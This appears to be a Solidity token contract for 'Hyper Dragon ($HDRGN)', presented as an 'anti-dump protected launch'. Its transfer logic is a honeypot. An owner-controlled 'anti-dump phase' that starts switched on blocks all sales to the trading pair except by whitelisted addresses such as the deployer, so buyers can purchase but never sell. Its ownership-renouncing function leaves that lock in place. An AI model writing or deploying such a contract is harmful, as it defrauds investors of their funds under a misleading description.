// SPDX-License-Identifier: MIT
// Hyper Dragon ($HDRGN) - anti-dump protected launch
pragma solidity ^0.8.7;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IDexFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IDexRouter {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

contract HyperDragon is IERC20 {
    string public name;
    string public symbol;
    uint8 public decimals;
    uint256 public override totalSupply;
    address public owner;
    address public immutable dexPair;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _canSell;
    mapping(address => bool) private _feeExempt;

    bool public antiDumpPhase = true;
    uint256 public marketingFee = 2;
    address public marketing;

    modifier onlyOwner() {
        require(msg.sender == owner, "caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
        owner = msg.sender;
        marketing = msg.sender;
        IDexRouter router = IDexRouter(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        dexPair = IDexFactory(router.factory()).createPair(address(this), router.WETH());
        _canSell[msg.sender] = true;
        _feeExempt[msg.sender] = true;
        totalSupply = supply;
        _balances[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account];
    }

    function allowance(address owner_, address spender) public view override returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) public override returns (bool) {
        _transfer(msg.sender, recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
        uint256 current = _allowances[sender][msg.sender];
        require(current >= amount, "transfer amount exceeds allowance");
        _allowances[sender][msg.sender] = current - amount;
        _transfer(sender, recipient, amount);
        return true;
    }

    function setAntiDumpPhase(bool active) external onlyOwner {
        antiDumpPhase = active;
    }

    function setSellers(address[] calldata accounts, bool allowed) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; i++) _canSell[accounts[i]] = allowed;
    }

    function setFeeExempt(address account, bool exempt) external onlyOwner {
        _feeExempt[account] = exempt;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function _transfer(address sender, address recipient, uint256 amount) internal {
        require(sender != address(0) && recipient != address(0), "zero address");
        if (antiDumpPhase && recipient == dexPair) {
            require(_canSell[sender], "anti-dump: sells are not open yet");
        }
        require(_balances[sender] >= amount, "transfer amount exceeds balance");
        uint256 fee;
        if (!_feeExempt[sender] && !_feeExempt[recipient] && (sender == dexPair || recipient == dexPair)) {
            fee = (amount * marketingFee) / 100;
        }
        _balances[sender] -= amount;
        if (fee > 0) {
            _balances[marketing] += fee;
            emit Transfer(sender, marketing, fee);
        }
        _balances[recipient] += amount - fee;
        emit Transfer(sender, recipient, amount - fee);
    }
}
